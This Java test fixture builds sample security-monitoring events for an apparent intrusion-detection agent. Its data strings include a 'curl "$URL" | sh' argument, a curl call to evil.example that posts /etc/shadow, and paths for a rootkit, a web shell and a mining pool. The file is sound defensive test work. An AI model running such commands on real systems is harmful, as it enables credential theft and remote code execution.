package dev.vigil.model;

import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;

/**
 * Realistic events for tests: at least one per {@link EventType}, several where one event cannot show
 * every field of its type (a module loaded from a file and one from memory, the three kinds of SELinux
 * change...), and between them they give every field of {@code Fields} a value other than its default.
 * The acting process has a three-level ancestry, runs in a container with an image name and tag, and
 * has an argv full of characters that break naive encoders (spaces, quotes, backslashes, unicode,
 * emoji, {@code <script>}, line breaks, an empty argument). {@code lost_events} comes from the agent,
 * so it has no process.
 *
 * <p>When you add an {@link EventType}, add a sample here: {@code EventJsonRoundTripTest} fails for a
 * type without one.
 */
public final class SampleEvents {

    private SampleEvents() {}

    public static final long T0 = 1_767_225_600_123_456_789L; // 2026-01-01T00:00:00.123456789Z

    public static final HostInfo HOST = new HostInfo("web-prod-3.eu-west-1", "6.8.0-45-generic",
            List.of("env:prod", "team:payments", "région:été"));

    public static final ContainerInfo CONTAINER = new ContainerInfo(
            "4f2a9c0e1b7d3a5c6e8f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f", "web-1", "acme/web", "1.4.2",
            "podman", 1_767_220_000_000_000_000L);

    /** Arguments after argv0 that a JSON encoder must not mangle. */
    public static final List<String> TRICKY_ARGS = List.of(
            "-H", "X-Note: \"quoted\" and 'single' and \\back\\slash",
            "https://evil.example/?q=<script>alert(1)</script>&x=</script>",
            "naïve café ☃ 日本語 🚀",
            "two  spaces\tand a tab",
            "",
            "line\nbreak\r\nand \u2028 separator",
            "--data=@/etc/shadow");

    public static final List<String> ENVS = List.of("PATH", "HOME", "LD_PRELOAD", "AWS_SECRET_ACCESS_KEY", "LANG");

    /** conmon -> bash -> start.sh (a shell script): the three ancestors. */
    public static ProcessInfo ancestry() {
        ProcessInfo greatGrandparent = new ProcessInfo(1, 0, 0, 0, 0, 0, "root", "root", "conmon",
                FileRef.of("/usr/bin/conmon"), FileRef.NONE, List.of("/usr/bin/conmon", "--api-version", "1"), false,
                List.of("PATH"), false, "/", "", 0x1ff_ffff_ffffL, 0x1ff_ffff_ffffL, ContainerInfo.NONE,
                T0 - 9_000_000_000L, null);
        ProcessInfo grandparent = new ProcessInfo(4100, 1, 1000, 1000, 1000, 1000, "app", "app", "bash",
                FileRef.of("/bin/bash"), FileRef.NONE, List.of("bash", "-l"), true,
                List.of("PATH", "HOME", "TERM"), true, "/home/app", "pts/0", "socket_inet", "socket_inet", 0, 0, CONTAINER,
                T0 - 5_000_000_000L, greatGrandparent);
        return new ProcessInfo(4242, 4100, 1000, 1000, 1000, 1000, "app", "app", "start.sh",
                FileRef.of("/srv/app/start.sh"), FileRef.of("/bin/sh"),
                List.of("/bin/sh", "/srv/app/start.sh", "--fetch", "curl \"$URL\" | sh"), true,
                List.of("PATH", "URL"), true, "/srv/app", "pts/0", "socket_unix", "other", 1L << 10, 1L << 10, CONTAINER,
                T0 - 2_000_000_000L, grandparent);
    }

    /** The process most samples happen in: curl with tricky arguments, three ancestors, in {@link #CONTAINER}. */
    public static ProcessInfo process() {
        List<String> argv = new ArrayList<>();
        argv.add("curl");
        argv.addAll(TRICKY_ARGS);
        return new ProcessInfo(4343, 4242, 1000, 1000, 0, 1000, "app", "app", "curl",
                FileRef.of("/usr/bin/curl"), FileRef.NONE, argv, true, ENVS, true, "/srv/app/tmp", "pts/0", "pipe", "tty",
                1L << 21 | 1L << 12, 0x1ff_ffff_ffffL, CONTAINER, T0 - 1_000_000L, ancestry());
    }

    /** A script run through its interpreter, as the process of an exec event. */
    public static ProcessInfo scriptProcess() {
        return new ProcessInfo(4444, 4242, 0, 0, 0, 0, "root", "root", "deploy.sh",
                FileRef.of("/opt/app/bin/deploy.sh"), FileRef.of("/bin/sh"),
                List.of("/bin/sh", "/opt/app/bin/deploy.sh", "--env", "prod", "<script>"), true, ENVS, true,
                "/opt/app", "pts/1", "socket_inet6", "file", 1L << 21, 1L << 21, CONTAINER, T0 - 10L, ancestry());
    }

    /** A monitoring agent (a Python script) in another container: target of ptrace and kill. */
    public static ProcessInfo victim() {
        return new ProcessInfo(812, 1, 0, 0, 0, 0, "root", "root", "agent.py",
                FileRef.of("/opt/monitor/agent.py"), FileRef.of("/usr/bin/python3.12"),
                List.of("/usr/bin/python3.12", "/opt/monitor/agent.py", "--config", "/etc/monitor.yaml"),
                true, List.of("LANG", "NOTIFY_SOCKET"), true, "/", "tty1", "tty", "pipe", 0x1ff_ffff_ffffL, 0x1ff_ffff_ffffL,
                new ContainerInfo("0a".repeat(32), "", "", "", "", 0), T0 - 86_400_000_000_000L, null);
    }

    // errno values (x86_64); syscalls report failure as -errno in retval
    private static final int EPERM = -1;
    private static final int ENOENT = -2;
    private static final int EACCES = -13;
    private static final int EEXIST = -17;
    private static final int EXDEV = -18;
    private static final int ENOTEMPTY = -39;
    private static final int EADDRINUSE = -98;
    private static final int ECONNREFUSED = -111;

    private static Event ev(long dt, Payload payload) {
        ProcessInfo p = payload.type() == EventType.EXEC ? scriptProcess() : process();
        return new Event(T0 + dt, p.pid() + 1, HOST, p, payload);
    }

    /** Every sample, in {@link EventType} order. */
    public static List<Event> all() {
        List<Event> out = new ArrayList<>();
        out.add(ev(1, Payload.Exec.INSTANCE));
        out.add(ev(2, Payload.Fork.INSTANCE));
        out.add(ev(3, new Payload.Exit("SIGNALED", 9)));
        out.add(ev(4, new Payload.Open(FileRef.of("/etc/shadow"), 0 /* O_RDONLY */, 0, 3)));
        out.add(ev(5, new Payload.Open(FileRef.of("/var/www/html/uploads/shell.php"),
                LinuxConstants.O_WRONLY | LinuxConstants.O_CREAT | LinuxConstants.O_TRUNC, 0644, EACCES)));
        out.add(ev(6, new Payload.Unlink(FileRef.of("/var/log/auth.log.1"), 0x200, ENOENT)));
        out.add(ev(7, new Payload.Rename(FileRef.of("/tmp/.x/payload.elf"), FileRef.of("/usr/local/bin/kworkerd.so"),
                1, EXDEV)));
        out.add(ev(8, new Payload.Chmod(FileRef.of("/tmp/.x/rootsh.bin"), 04755, EPERM)));
        out.add(ev(9, new Payload.Chown(FileRef.of("/tmp/.x/rootsh.bin"), 0, 0, EPERM)));
        out.add(ev(10, new Payload.Mkdir(FileRef.of("/etc/systemd/system/evil.service.d"), 0700, EEXIST)));
        out.add(ev(11, new Payload.Rmdir(FileRef.of("/var/log/journal/old.d"), ENOTEMPTY)));
        out.add(ev(12, new Payload.Link(FileRef.of("/etc/ssh/ssh_host_ed25519_key.pub"), FileRef.of("/tmp/.k.txt"), EEXIST)));
        out.add(ev(13, new Payload.Symlink(FileRef.of("/var/www/html/s.txt"), "/etc/shadow", EEXIST)));
        out.add(ev(14, new Payload.Utimes(FileRef.of("/usr/bin/ls.bak"), 1_600_000_000L, -2, EPERM)));
        out.add(ev(15, new Payload.SetUid(0, 0, 0, 0)));
        out.add(ev(16, new Payload.SetUid(1000, 1000, 1000, EPERM)));
        out.add(ev(17, new Payload.SetGid(0, 0, 0, 0)));
        out.add(ev(18, new Payload.SetGid(1000, 1000, 1000, EPERM)));
        out.add(ev(19, new Payload.Capset(1L << 21 | 1L << 19, 0x1ff_ffff_ffffL, EPERM)));
        out.add(ev(20, new Payload.Bpf(5, 2, "kprobe_hide_pid", -1, "", 42)));
        out.add(ev(21, new Payload.Bpf(0, -1, "", 1, "pid_map", 7)));
        out.add(ev(22, new Payload.LoadModule("rootkit", FileRef.of("/tmp/.x/rootkit.ko"), false, "hide=1 port=\"31337\"",
                EPERM)));
        out.add(ev(23, new Payload.LoadModule("", FileRef.NONE, true, "", 0)));
        out.add(ev(24, new Payload.Ptrace(16, 812, victim(), EPERM)));
        out.add(ev(25, new Payload.Mount("/dev/sda1", "/mnt/host", "ext4", 4096L | 16384L, EPERM)));
        out.add(ev(26, new Payload.Signal(9, 812, victim(), EPERM)));
        out.add(ev(27, new Payload.Selinux("enforce", "", "permissive", 0)));
        out.add(ev(28, new Payload.Selinux("bool", "httpd_can_network_connect", "on", EACCES)));
        out.add(ev(29, new Payload.Selinux("bool_commit", "", "", 0)));
        out.add(ev(30, new Payload.Connect(NetAddr.inet(LinuxConstants.AF_INET6, "2001:db8::1", 4444), 6, ECONNREFUSED)));
        out.add(ev(31, new Payload.Connect(new NetAddr(LinuxConstants.AF_UNIX, "", 0, "/run/podman/podman.sock"), 0, 0)));
        out.add(ev(32, new Payload.Bind(NetAddr.inet(LinuxConstants.AF_INET, "0.0.0.0", 31337), 6, 0)));
        out.add(ev(33, new Payload.Bind(new NetAddr(LinuxConstants.AF_UNIX, "", 0, "/tmp/.x/ctl.sock"), 0, EADDRINUSE)));
        out.add(ev(34, new Payload.Accept(NetAddr.inet(LinuxConstants.AF_INET, "203.0.113.7", 51234), 31337, 5)));
        out.add(ev(35, new Payload.Accept(new NetAddr(LinuxConstants.AF_UNIX, "", 0, "@abstract-peer"), 0, 6)));
        out.add(ev(36, new Payload.Dns(0x1a2b, "pool.minexmr.com", 28, 1, 1, NetAddr.inet(LinuxConstants.AF_INET, "10.0.0.2", 53))));
        // CHAOS-class TXT query for version.bind (DNS server fingerprinting), with two questions.
        out.add(ev(37, new Payload.Dns(7, "version.bind", 16, 3, 2, NetAddr.inet(LinuxConstants.AF_INET6, "fd00::53", 53))));
        // Emitted by the agent itself: no process, hence no container either.
        out.add(new Event(T0 + 38, 0, HOST, ProcessInfo.NONE, new Payload.LostEvents(17, 4096)));
        return Collections.unmodifiableList(out);
    }

    /** The samples grouped by type (types without a sample are absent). */
    public static Map<EventType, List<Event>> byType() {
        Map<EventType, List<Event>> m = new EnumMap<>(EventType.class);
        for (Event e : all()) {
            m.computeIfAbsent(e.type(), t -> new ArrayList<>()).add(e);
        }
        return m;
    }

    /** The first sample of {@code type}. */
    public static Event of(EventType type) {
        List<Event> list = byType().get(type);
        if (list == null) {
            throw new IllegalArgumentException("no sample event for type " + type.id());
        }
        return list.getFirst();
    }
}
